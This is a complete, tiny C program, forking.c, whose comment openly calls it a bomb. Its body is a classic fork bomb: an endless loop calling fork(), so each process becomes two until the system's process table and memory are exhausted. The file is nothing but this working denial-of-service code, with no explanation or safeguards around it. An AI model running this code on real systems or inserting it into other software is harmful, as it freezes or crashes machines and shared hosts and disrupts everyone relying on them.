/* SPDX-License-Identifier: MIT */
/* forking.c - a bomb: each process becomes two, for ever. */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
